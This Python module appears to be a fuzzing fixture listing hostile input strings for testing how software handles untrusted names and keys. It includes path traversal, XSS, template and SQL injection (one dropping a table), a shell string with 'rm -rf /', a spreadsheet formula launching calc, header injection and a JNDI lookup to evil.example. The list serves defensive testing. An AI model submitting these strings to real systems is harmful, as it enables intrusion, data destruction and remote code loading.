"""Texts that break what handles them carelessly: a short list of the ways, not of every variant.

Each is something that anybody may send: as a name, a key, a title, a period.
"""

from typing import Final

HOSTILE_TEXTS: Final = (
    "",
    " ",
    "\t\r\n",
    "\x00",
    "\x1b[2J\x07\x08\x7f\x85",
    # Paths and keys
    "../../etc/passwd",
    "..\\..\\windows\\system32",
    "/absolute//double/./dot/",
    "%2e%2e%2f",
    "%252e%252e%252f",
    "+plus and space+",
    ".hidden",
    "trailing dot.",
    "CON",
    "file:///etc/passwd",
    "s3://foreign/bucket",
    "k" * 1024,
    "ä" * 512,
    # Markup, templates, formulas
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    ']]><!--#exec cmd="id"-->',
    "{{7*7}}${7*7}#{7*7}<%=7*7%>",
    "{0.__class__.__mro__}",
    "%s%n%x%d",
    "=cmd|' /C calc'!A1",
    # SQL and shell
    "' OR '1'='1",
    "'; DROP TABLE events; --",
    "2026-09-21' UNION SELECT * FROM lake --",
    "\\' OR 1=1 /*",
    "$(id) `id` ; rm -rf / | true & false",
    "-rf",
    # Headers and lines
    "subject\r\nBcc: everybody@example.com",
    "line\nanother line",
    "line\u2028separator\u2029paragraph",
    '{"level":"ERROR","message":"forged"}',
    '"}\n{"level":"ERROR","message":"forged"}',
    "${jndi:ldap://evil.example/a}",
    # Writing systems
    "\u202egnp.exe\u202c \u2066isolated\u2069",
    "zero\u200bwidth\u200d\ufeff",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033da\u034fl\u0334g\u0319o",
    "\ufdfa" * 30,
    "漢字 かな 한글 العربية עברית",
    "👩‍👩‍👧‍👦🏳️‍🌈\U0010ffff",
    "ﬁ ŀ ĳ ǆ ⅸ ①",
    # Numbers and words with a meaning somewhere
    "NaN",
    "Infinity",
    "-0",
    "1e400",
    "0x7fffffff",
    "٣٤٥",
    "1.0.0.127",
    "null",
    "undefined",
    "true",
    "__proto__",
    "constructor",
    "#",
    "a#b%23c",
)
